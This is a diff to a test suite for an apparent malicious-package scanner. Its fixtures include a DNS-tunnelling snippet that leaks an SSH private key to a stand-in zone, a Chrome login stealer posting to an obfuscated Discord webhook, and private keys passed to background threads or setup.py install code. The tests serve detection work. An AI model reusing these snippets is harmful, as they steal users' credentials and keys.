@@ -363,8 +363,12 @@ def test_the_one_value_a_function_named_for_a_wallet_secret_takes_is_that_secret
         "def validate_mnemonic(phrase, language):\n    return _get(_LIST + language)\n",
         # one value, but the function is named for nothing secret
         "def validate_checksum(phrase):\n    return _get(_LIST + phrase)\n",
+        # named after the secret, but taking something else: a language, a public key
+        "def load_mnemonic_wordlist(language):\n    return _get(_LIST + language)\n",
+        "def keypair_balance(pubkey):\n    return _get(_LIST + pubkey)\n",
+        "def import_private_key(path):\n    return _get(_LIST + path)\n",
     ],
-    ids=["two-values", "not-named-for-a-secret"],
+    ids=["two-values", "not-named-for-a-secret", "wordlist", "public-key", "path"],
 )
 def test_a_function_not_named_for_its_one_wallet_secret_passes_no_secret(tmp_path: Path, body: str) -> None:
     helper = (
@@ -384,15 +388,13 @@ _SEND_KEY_HOME = """
 """
 
 
-@pytest.mark.parametrize(("init", "sent"), [("from .sync import report\nreport()\n", True), ("", False)])
-def test_a_credential_file_sent_at_import_even_to_a_host_named_after_the_package(
-    tmp_path: Path, init: str, sent: bool
+@pytest.mark.parametrize(("where", "sent"), [("setup.py", True), (f"{DEFAULT_NAME}/sync.py", False)])
+def test_a_credential_file_sent_at_install_even_to_a_host_named_after_the_package(
+    tmp_path: Path, where: str, sent: bool
 ) -> None:
-    # the package names the host after itself; a credential file leaves at import all the same
-    files = {
-        f"{DEFAULT_NAME}/__init__.py": init,
-        f"{DEFAULT_NAME}/sync.py": _SEND_KEY_HOME.replace("{name}", DEFAULT_NAME),
-    }
+    # the package names the host after itself; a credential file leaves at install all the same
+    code = textwrap.dedent(_SEND_KEY_HOME.replace("{name}", DEFAULT_NAME))
+    files = {f"{DEFAULT_NAME}/__init__.py": "", where: code + ("report()\n" if sent else "")}
     verdict, findings = scan_package(tmp_path, files)
     assert any(f.startswith("exfil-flow:critical") for f in findings) is sent, findings
     if not sent:  # a client the user calls may send what it reads to its own service
@@ -404,10 +406,11 @@ def test_a_credential_file_sent_at_import_even_to_a_host_named_after_the_package
     [
         "threading.Thread(target=_report, args=({'p': private_key},), daemon=True).start()",
         "threading.Timer(0.5, _report, args=[private_key]).start()",
+        "threading.Thread(None, _report, 'reporter', (private_key,)).start()",
         "concurrent.futures.ThreadPoolExecutor().submit(_report, private_key)",
         "atexit.register(_report, private_key)",
     ],
-    ids=["thread", "timer", "executor", "atexit"],
+    ids=["thread", "timer", "thread-positional", "executor", "atexit"],
 )
 def test_a_secret_handed_to_a_thread_reaches_what_the_thread_runs(tmp_path: Path, hand_off: str) -> None:
     helper = (
@@ -420,6 +423,48 @@ def test_a_secret_handed_to_a_thread_reaches_what_the_thread_runs(tmp_path: Path
     verdict, findings = scan_package(tmp_path, files)
     assert verdict is Verdict.MALICIOUS, findings
     assert any(f.startswith("exfil-flow:critical") for f in findings), findings
+
+
+@pytest.mark.parametrize(
+    "lookup",
+    [
+        'r.resolve("%d.%s.%s" % (i, chunk, _ZONE), "TXT")',
+        'r.resolve("{}.{}.{}".format(i, chunk, _ZONE), "TXT")',
+        'r.query(f"{i}.{chunk}.{_ZONE}", "A")',
+    ],
+    ids=["percent", "format", "f-string"],
+)
+def test_a_secret_in_the_names_a_resolver_object_looks_up_leaves_by_dns(lookup: str) -> None:
+    source = f"""
+import binascii, os
+import dns.resolver
+_ZONE = "t.example-metrics.xyz"
+key = binascii.hexlify(open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read()).decode()
+r = dns.resolver.Resolver()
+for i in range(0, len(key), 60):
+    chunk = key[i : i + 60]
+    {lookup}
+"""
+    found = [f for f in flows_of(source) if f.source is Source.SECRET_FILE and f.sink is Sink.NETWORK]
+    assert found and found[0].destination.host == "t.example-metrics.xyz", flows_of(source)
+
+
+def test_a_secret_yielded_by_a_generator_and_a_host_split_in_pieces_are_followed() -> None:
+    source = """
+import os, shutil, sqlite3, tempfile, urllib.request
+_HOOK = "https://disc" + "ord.com/api/web" + "hooks/1/x"
+def _profiles():
+    for name in ("Default", "Profile 1"):
+        yield os.path.join(os.environ["LOCALAPPDATA"], "Chrome", "User Data", name, "Login Data")
+def _rows():
+    for path in _profiles():
+        copy = os.path.join(tempfile.gettempdir(), "l.db")
+        shutil.copy2(path, copy)
+        yield from sqlite3.connect(copy).execute("select * from logins")
+urllib.request.urlopen(_HOOK, data=str(list(_rows())).encode())
+"""
+    found = [f for f in flows_of(source) if f.source is Source.SECRET_FILE]
+    assert found and found[0].destination.host == "discord.com", flows_of(source)
 
 
 def test_exfil_flow_benign_api_client_sends_its_token_to_a_parameter_url(tmp_path: Path) -> None:
